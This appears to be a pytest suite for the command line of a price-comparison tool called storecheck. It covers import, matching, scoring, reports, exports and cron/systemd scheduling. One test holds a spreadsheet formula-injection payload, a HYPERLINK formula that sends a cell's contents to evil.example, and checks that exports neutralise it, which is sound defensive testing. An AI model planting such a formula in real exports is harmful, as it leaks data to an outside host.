"""The command line contract, end to end on a real SQLite workspace (no crawl)."""

import csv
import json
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner

from storecheck.cli import cli

OURS = (
    "sku,name,brand,category,gtin,price\n"
    "S1,Arabica Coffee 500 g,Bean Co,Coffee,4006381333931,8.00\n"
    "S2,Green Tea 20 bags,Leaf,Tea,5012345678900,4.00\n"
    "S3,Oat Biscuits 300 g,Crumb,Snacks,,2.00\n"
)
THEIRS = (
    "key,name,gtin,sku,price,regular_price,in_stock\n"
    "t1,BEAN CO Arabica 0.5kg,4006381333931,,7.50,8.50,yes\n"
    "t2,Leaf green tea x20,,5012345678900,5.00,,yes\n"
    "t3,Crumb oat biscuits,,,2.20,,yes\n"
)


def run(ws, *args, ok=True):
    result = CliRunner().invoke(cli, [*args, "--workspace", str(ws)])
    if ok:
        assert result.exit_code == 0, result.output
    return result


def setup_workspace(tmp_path):
    ws = tmp_path / "ws"
    assert CliRunner().invoke(cli, ["init", str(ws), "--shop", "Test & Co"]).exit_code == 0
    (tmp_path / "ours.csv").write_text(OURS)
    (tmp_path / "theirs.csv").write_text(THEIRS)
    run(ws, "catalogue", "import", str(tmp_path / "ours.csv"))
    run(ws, "competitor", "add", "Rival", "https://rival.example/")
    run(ws, "offers", "import", str(tmp_path / "theirs.csv"), "--competitor", "Rival")
    return ws


def test_init_writes_workspace_and_refuses_to_overwrite(tmp_path):
    ws = tmp_path / "ws"
    result = CliRunner().invoke(cli, ["init", str(ws)])
    assert result.exit_code == 0
    assert (ws / "storecheck.toml").is_file() and (ws / "catalogue.csv").is_file()
    assert (ws / "visits" / "visits-template.csv").is_file() and (ws / "storecheck.db").is_file()
    again = CliRunner().invoke(cli, ["init", str(ws)])
    assert again.exit_code == 1 and "already exists" in again.output


def test_commands_outside_a_workspace_say_what_to_do(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("STORECHECK_WORKSPACE", raising=False)
    result = CliRunner().invoke(cli, ["competitor", "list"])
    assert result.exit_code == 1 and "storecheck init" in result.output


def test_match_score_report_export_roundtrip(tmp_path):
    ws = setup_workspace(tmp_path)
    listing = run(ws, "competitor", "list")
    assert "Rival" in listing.output and "3" in listing.output
    run(ws, "match")
    score = json.loads(run(ws, "score", "--json").output)
    rival = score["competitors"][0]
    # S1 matched by GTIN, S2 by their sku being an EAN; S3 has no identifier yet.
    assert rival["pairs"] == 2
    expected = 100 * ((8.0 / 7.5) * (4.0 / 5.0)) ** 0.5
    assert abs(rival["price_index"] - expected) < 1e-6
    assert rival["cheaper"] == 0.5 and rival["dearer"] == 0.5

    report = tmp_path / "r.html"
    run(ws, "report", "-o", str(report))
    soup = BeautifulSoup(report.read_text(), "html.parser")
    assert "Rival" in soup.get_text() and "Test & Co" in soup.get_text()

    exported = tmp_path / "matches.csv"
    run(ws, "matches", "export", str(exported))
    rows = list(csv.DictReader(exported.read_text().splitlines()))
    assert {r["sku"] for r in rows if r["status"] == "matched"} == {"S1", "S2"}
    assert rows[0]["status"] == "matched"
    assert {"sku", "competitor", "key", "method", "score", "status"} <= set(rows[0])
    # A person rejects one pair and adds one the matcher could not find.
    rows[0]["status"] = "rejected"
    rows.append({**rows[0], "sku": "S3", "key": "t3", "status": "confirmed"})
    with exported.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = run(ws, "matches", "import", str(exported), "--by", "Ann")
    assert "1 confirmed, 1 rejected" in result.output
    run(ws, "match")  # re-matching must not undo a person's decisions
    after = tmp_path / "after.csv"
    run(ws, "matches", "export", str(after))
    statuses = {(r["sku"], r["key"]): r["status"] for r in csv.DictReader(after.read_text().splitlines())}
    assert statuses[(rows[0]["sku"], rows[0]["key"])] == "rejected"
    assert statuses[("S3", "t3")] == "confirmed"

    import openpyxl

    from storecheck.exports import EXPORTABLE

    for table in EXPORTABLE:
        out = tmp_path / f"{table}.xlsx"
        run(ws, "export", table, str(out))
        sheet = openpyxl.load_workbook(out).active
        if table in ("offers", "products", "observations", "matches", "price", "promotions", "range", "ladder"):
            assert sheet.max_row > 1, f"{table} exported no rows"
    run(ws, "export", "promotions", str(tmp_path / "promotions.csv"))
    promotions = list(csv.DictReader((tmp_path / "promotions.csv").read_text().splitlines()))
    assert promotions[0]["competitor"] == "Rival" and promotions[0]["on promotion"] == "1"
    offers = tmp_path / "offers.csv"
    run(ws, "export", "offers", str(offers))
    first = next(csv.DictReader(offers.read_text().splitlines()))
    assert first["competitor"] == "Rival" and first["price"] == "7.5000"


def test_matches_import_names_bad_rows(tmp_path):
    ws = setup_workspace(tmp_path)
    bad = tmp_path / "bad.csv"
    bad.write_text("sku,competitor,key,status\nS1,Rival,t1,maybe\nS9,Rival,t1,confirmed\nS1,Nobody,t1,rejected\n"
                   "S2,Rival,t2,confirmed\nS2,Rival,t2,rejected\n")
    result = run(ws, "matches", "import", str(bad), ok=False)
    assert result.exit_code == 1
    assert "line 2, column 'status'" in result.output
    assert "line 3, column 'sku'" in result.output
    assert "line 4, column 'competitor'" in result.output
    assert "line 6, column 'status': rejected but line 5 says confirmed" in result.output


def test_schedule_prints_cron_line(tmp_path):
    ws = setup_workspace(tmp_path)
    line = run(ws, "schedule", "--cron", "0 5 * * 1").output
    assert line.startswith("0 5 * * 1 cd ") and "run" in line
    assert run(ws, "schedule", "--cron", "* *", ok=False).exit_code == 1


def test_exports_never_let_text_become_a_formula(tmp_path):
    import openpyxl

    from storecheck.tables import write_table

    rows = [{"name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "price": 1}, {"name": "@SUM(1+1)", "price": -2}]
    write_table(rows, tmp_path / "t.csv", ["name", "price"])
    lines = (tmp_path / "t.csv").read_text().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'@SUM(1+1),-2"
    write_table(rows, tmp_path / "t.xlsx", ["name", "price"])
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
    assert sheet["B3"].value == -2


def test_schedule_keeps_the_database_url_and_escapes_percent(tmp_path, monkeypatch):
    ws = setup_workspace(tmp_path)
    monkeypatch.setenv("STORECHECK_DATABASE_URL", "postgresql+psycopg://u:p%40ss@db/storecheck")
    line = run(ws, "schedule", "--cron", "@daily").output.strip()
    assert "STORECHECK_DATABASE_URL=postgresql+psycopg://u:p\\%40ss@db/storecheck " in line
    assert "%" not in line.replace("\\%", "")


def test_a_decision_at_one_competitor_leaves_the_others_alone(tmp_path):
    ws = setup_workspace(tmp_path)
    run(ws, "competitor", "add", "Other", "https://other.example/")
    run(ws, "offers", "import", str(tmp_path / "theirs.csv"), "--competitor", "Other")
    run(ws, "match")
    decisions = tmp_path / "decisions.csv"
    decisions.write_text("sku,competitor,key,status\nS1,Rival,t1,confirmed\nS2,Rival,t2,rejected\n")
    run(ws, "matches", "import", str(decisions))
    for _ in range(2):  # and after a re-match
        out = tmp_path / "m.csv"
        run(ws, "matches", "export", str(out))
        rows = {(r["sku"], r["competitor"]): r["status"] for r in csv.DictReader(out.read_text().splitlines())}
        assert rows[("S1", "Rival")] == "confirmed" and rows[("S2", "Rival")] == "rejected"
        assert rows[("S1", "Other")] == "matched" and rows[("S2", "Other")] == "matched"
        run(ws, "match")


def test_run_crawls_matches_and_reports(tmp_path):
    """`storecheck run`, what a schedule calls, against a demo shop on 127.0.0.1."""
    from storecheck.config import Workspace
    from storecheck.demo.shops import DemoShops
    from storecheck.demo.world import World

    world = World(seed=2, products=30)
    ws = tmp_path / "ws"
    assert CliRunner().invoke(cli, ["init", str(ws)]).exit_code == 0
    world.write_own_catalogue(tmp_path / "ours.csv")
    run(ws, "catalogue", "import", str(tmp_path / "ours.csv"))
    with DemoShops(world) as shops:
        Workspace(ws).add_competitor("Greenleaf Market", shops.urls["Greenleaf Market"], download_delay=0.0)
        result = run(ws, "run")
    report = Path(result.output.strip().splitlines()[-1].removeprefix("Report: "))
    assert report.is_file() and report.parent == ws / "reports"
    score = json.loads(run(ws, "score", "--json").output)["competitors"][0]
    assert score["products"] == 30 and score["pairs"] > 0


@pytest.mark.parametrize("cron,calendar", [
    ("0 6 * * 1", "Mon *-*-* 06:00:00"),
    ("*/15 8-18 * * 1-5", "Mon..Fri *-*-* 08..18:00/15:00"),
    ("30 2 1,15 * *", "*-*-01,15 02:30:00"),
    ("@weekly", "weekly"),
])
def test_schedule_as_a_systemd_service_and_timer(tmp_path, monkeypatch, cron, calendar):
    import shutil
    import subprocess

    from conftest import require

    ws = setup_workspace(tmp_path)
    out = run(ws, "schedule", "--systemd", "--cron", cron).output
    assert f"OnCalendar={calendar}\n" in out and "Persistent=true" in out
    assert f"WorkingDirectory={ws}" in out and out.count("ExecStart=") == 1 and " run\n" in out
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    assert "systemctl --user enable --now storecheck-ws.timer" in run(ws, "schedule", "--systemd", "--install",
                                                                         "--cron", cron).output
    units = sorted((tmp_path / "config" / "systemd" / "user").iterdir())
    assert [u.name for u in units] == ["storecheck-ws.service", "storecheck-ws.timer"]
    assert all(u.stat().st_mode & 0o777 == 0o600 for u in units)  # the service may hold a database password
    require(shutil.which("systemd-analyze") is not None, "systemd-analyze is not installed (apt-get install systemd)")
    checked = subprocess.run(["systemd-analyze", "calendar", calendar], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stderr
    verified = subprocess.run(["systemd-analyze", "verify", *map(str, units)], capture_output=True, text=True)
    assert verified.returncode == 0, verified.stderr


def test_a_cron_shortcut_without_a_timer_equivalent_is_refused(tmp_path):
    ws = setup_workspace(tmp_path)
    result = CliRunner().invoke(cli, ["schedule", "--systemd", "--cron", "@reboot", "--workspace", str(ws)])
    assert result.exit_code != 0 and "no systemd timer equivalent" in result.output
